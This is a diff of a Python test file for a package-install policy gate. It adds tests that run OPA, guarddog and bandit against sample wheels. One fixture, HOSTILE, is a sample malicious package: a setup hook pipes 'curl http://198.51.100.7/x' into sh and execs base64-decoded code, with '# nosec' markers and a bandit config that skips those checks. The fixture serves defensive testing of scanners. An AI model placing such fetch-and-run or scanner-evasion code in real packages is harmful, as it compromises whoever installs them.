@@ -1,11 +1,12 @@
 # SPDX-License-Identifier: Apache-2.0
 """External checks of a policy file: programs that are asked about the plan, or about each archive of it, and may say no."""
-import os
 import json
+import os
+import shutil
 import sys
 
-from lib import index
-from lib.case import case
+from lib import index, wheels
+from lib.case import Skipped, case
 
 SOME = "22.2.2 newest"
 
@@ -81,7 +82,6 @@ def check_of_archives(c):
 @case(pips="newest", mode="any")
 def check_of_local_archives(c):
     """A file and a folder are looked at where they lie, an address' archive by its hash; of a repository there is none."""
-    from lib import wheels
     check, log = program(c, ["here"])
     policy(c, ([sys.executable, check], {"on": "archive"}), **{"direct": {"url": "allow", "local": "allow"}, "sdist": "allow"})
     file = c.write("idna-3.7-py3-none-any.whl", c.index.files["idna-3.7-py3-none-any.whl"].data)
@@ -135,3 +135,64 @@ def check_faults(c):
     for i, (_, sentence) in enumerate(rows):
         c.true(any(r.startswith("c%d: did not answer: %s" % (i, sentence)) for r in said), "%s is not among %s", sentence, said)
     c.unchanged(before)
+
+
+@case(pips="newest", mode="any")
+def check_of_odd_archives(c):
+    """A large file comes whole; what cannot be unpacked nobody can look at; nothing in the folder is taken for a Python's module."""
+    big = os.urandom(17 << 20)
+    c.files += [index.wheel("large", "1.0", files={"large/big.bin": big, "json.py": b"raise SystemExit('taken from the folder')\n"})]
+    broken = index.wheel("broken", "1.0")
+    c.files += [index.File(broken.filename, b"PK\x03\x04 no wheel", broken.metadata)]
+    text = ("import hashlib, json\nwith open('large/big.bin', 'rb') as f: digest = hashlib.sha256(f.read()).hexdigest()\n"
+            "print(json.dumps({'opinion': 'warn', 'message': digest}))")
+    policy(c, ([sys.executable, "-c", text], {"on": "archive"}))
+    c.expect(c.gate("install", "large"), status=0, err=index.File("x-1-x", big).sha256()[:30])
+    before = c.snapshot()
+    c.expect(c.gate("install", "broken"), status=40, err="c0: did not answer: ")
+    c.unchanged(before)
+
+
+def tool(name):
+    path = shutil.which(name)
+    if not path:
+        raise Skipped("no %s on PATH (docs/checks.md says how to have it)" % name)
+    return path
+
+
+HOSTILE = {"setup_hook.py": b"import base64, subprocess\nsubprocess.call('curl http://198.51.100.7/x | sh', shell=True)  # nosec\n"
+                            b"exec(base64.b64decode('cHJpbnQoMSk='))  # nosec\n",
+           ".bandit": b"[bandit]\nskips = B102,B404,B602,B605,B607\n"}
+
+
+@case(pips="newest", mode="plan", slow=True)
+def check_by_opa(c):
+    """A rule in Rego, as docs/checks.md has it."""
+    rule = c.write("deny.rego", 'package pipgate\ndeny contains msg if {\n\tsome c in input.components\n\tc.name == "markupsafe"\n'
+                                '\tmsg := sprintf("%s is not used here", [c.name])\n}\n')
+    policy(c, ([tool("opa"), "eval", "--stdin-input", "--format", "json", "--data", rule, "data.pipgate.deny"], {"format": "opa"}))
+    c.expect(c.gate("install", "idna"), status=0)
+    c.expect(c.gate("install", "jinja2==3.1.6"), status=40, err="c0: markupsafe is not used here")
+    policy(c, ([tool("opa"), "eval", "--stdin-input", "--format", "json", "--data", rule, "data.pipgate.dney"], {"format": "opa"}))
+    c.expect(c.gate("install", "click"), status=40, err="is the rule defined")
+
+
+@case(pips="newest", mode="plan", slow=True)
+def check_by_guarddog(c):
+    """What it finds risky does not come; single signs do not stop an honest one."""
+    honest = {"tool.py": b"import subprocess\nsubprocess.run(['true'])\n"}
+    c.files += [index.wheel("hostile", "1.0", files=HOSTILE), index.wheel("honest", "1.0", files=honest)]
+    policy(c, ([tool("guarddog"), "pypi", "scan", "{folder}", "--output-format", "json"],
+               {"format": "guarddog", "on": "archive", "timeout": "5m"}))
+    c.expect(c.gate("install", "honest"), status=0)
+    c.expect(c.gate("install", "hostile"), status=40, err="c0: Detects")
+
+
+@case(pips="newest", mode="plan", slow=True)
+def check_by_bandit(c):
+    """Its findings from a level on; what the archive itself says of bandit does not count."""
+    c.files += [index.wheel("hostile", "1.0", files=HOSTILE)]
+    policy(c, ([tool("bandit"), "--quiet", "--recursive", "--format", "json", "--ignore-nosec", "--ini", "/dev/null", "{folder}"],
+               {"format": "bandit:medium", "on": "archive", "timeout": "5m"}))
+    c.expect(c.gate("install", "idna"), status=0)
+    c.expect(c.gate("install", "hostile"), status=40, err="c0: Use of exec detected")
